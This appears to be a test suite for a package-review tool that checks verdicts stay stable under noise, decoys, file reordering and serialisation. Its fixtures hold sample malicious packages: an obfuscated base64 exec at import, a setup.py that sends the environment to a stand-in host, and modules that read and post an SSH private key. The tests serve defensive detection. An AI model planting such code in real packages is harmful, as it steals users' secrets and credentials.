"""The principles of the design, as properties of whole reviews."""

from __future__ import annotations

import base64
import io
import zipfile

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique import frozen
from pratique.pipeline import Options, describe, freeze, judge_frozen, review_artifact, review_files
from pratique.reading import Desk
from pratique.unpack import open_artifact

LEVELS = ("clear", "note", "look", "block")
_HELLO = base64.b64encode(b"import os\nos.system('echo hello')\n").decode()
ATTACKS = {
    "hidden layer at import": (
        {"acme/__init__.py": f"import base64\nexec(base64.b64decode('{_HELLO}'))\n".encode()},
        "wheel",
    ),
    "environment sent at install": (
        {
            "acme-1.0/setup.py": b"""import os, urllib.request
from setuptools import setup
urllib.request.urlopen("https://drop.acme.invalid/c", data=str(dict(os.environ)).encode())
setup(name="acme")
"""
        },
        "sdist",
    ),
    "keys across modules": (
        {
            "acme/__init__.py": b"from acme.out import leave\nfrom acme.find import keys\nleave(keys())\n",
            "acme/find.py": b"import os\ndef keys():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
            "acme/out.py": b"import requests\ndef leave(x):\n    requests.post('http://203.0.113.9/k', data=x)\n",
        },
        "wheel",
    ),
}
_NAMES = st.text("abcdefgh", min_size=1, max_size=8)
_NOISE = st.one_of(
    st.builds(lambda text: f"# {text}\n", st.text("abc #'\"{}", max_size=40)),
    st.builds(lambda name: f"def {name}(x):\n    return x\n", _NAMES),
    st.builds(lambda name, text: f"{name}_ = {text!r}\n", _NAMES, st.text("abc\n", max_size=60)),
    st.builds(lambda name: f"class {name.title()}:\n    def run(self):\n        return 1\n", _NAMES),
    st.builds(lambda name: f"if False:\n    import {name}_\n", _NAMES),
    st.just("import json, re, collections\n"),
    st.just("import os\nprint(os.getcwd())\n"),
)
_FILES = st.dictionaries(
    st.builds(lambda name, end: f"{name}{end}", _NAMES, st.sampled_from((".py", ".txt", ".json", ".md", ".cfg"))),
    st.builds(lambda parts: "".join(parts).encode(), st.lists(_NOISE, max_size=4)),
    max_size=3,
)


def _reviewed(files, kind):
    return review_files(files, kind, options=Options(audience="everything"))


@pytest.mark.parametrize("name", ATTACKS)
@settings(max_examples=25)
@given(before=st.lists(_NOISE, max_size=4), after=st.lists(_NOISE, max_size=4), more=_FILES)
def test_adding_code_or_files_never_lowers_a_verdict(name, before, after, more):
    """Comments, dead code, decoys and whole files change neither level nor rules for the better."""
    files, kind = ATTACKS[name]
    plain = _reviewed(files, kind)
    root = "acme-1.0/acme/" if kind == "sdist" else "acme/"
    noisy = {path: "".join(before).encode() + data + "".join(after).encode() for path, data in files.items()}
    noisy |= {root + path: data for path, data in more.items() if root + path not in noisy}

    found = _reviewed(noisy, kind)

    assert LEVELS.index(found.verdict.level) >= LEVELS.index(plain.verdict.level)
    assert {one.rule for one in found.findings} >= {one.rule for one in plain.findings}


@settings(max_examples=30)
@given(more=_FILES)
def test_bytes_that_nothing_runs_never_raise_a_verdict(more):
    """Text and data beside honest code change nothing, whatever they say."""
    honest = {"acme/__init__.py": b"import json\ndef load(text):\n    return json.loads(text)\n"}
    data = {f"acme/{path}": body for path, body in more.items() if not path.endswith((".py", ".cfg"))}
    attack = ATTACKS["hidden layer at import"][0]["acme/__init__.py"]

    found = _reviewed(honest | data | {"acme/notes.txt": attack, "acme/notes.md": attack}, "wheel")

    assert found.verdict.level == _reviewed(honest, "wheel").verdict.level


@pytest.mark.parametrize("name", ATTACKS)
def test_the_order_of_files_changes_nothing(name):
    files, kind = ATTACKS[name]
    turned = dict(reversed(files.items()))

    first, second = _reviewed(files, kind), _reviewed(turned, kind)

    assert [one.fingerprint for one in first.findings] == [one.fingerprint for one in second.findings]
    assert first.verdict == second.verdict


def _zipped(files):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return packed.getvalue()


def _frozen(data, kind):
    artifact = msgspec.structs.replace(describe("files.zip", data), kind=kind)
    return artifact, freeze(artifact, open_artifact(data, "files.zip"), Options(), Desk())[0]


@pytest.mark.parametrize("name", ATTACKS)
def test_frozen_facts_give_the_same_review(name):
    """Facts written and read again are judged as the bytes were."""
    files, kind = ATTACKS[name]
    data = _zipped(files)
    artifact, facts = _frozen(data, kind)

    again = judge_frozen(frozen.load(frozen.dump(facts)), Options())

    direct = review_artifact(artifact, data, Options())
    assert again.verdict == direct.verdict
    assert again.findings == direct.findings


@pytest.mark.parametrize("name", ATTACKS)
def test_everything_is_read_in_full(name):
    """There is no lazy reading that findings could depend on: no body is left out, not even one that nothing calls."""
    files, kind = ATTACKS[name]
    far = {"acme/far.py": b"def never_called():\n    return [one for one in range(3)]\n"}
    _, facts = _frozen(_zipped({**files, **far}), kind)

    assert {unit.file.path for unit in facts.units} >= {*files, *far}
    assert {unit.facts.depth for unit in facts.units} == {"full"}
    assert not [scope.name for unit in facts.units for scope in unit.facts.scopes if scope.hole]
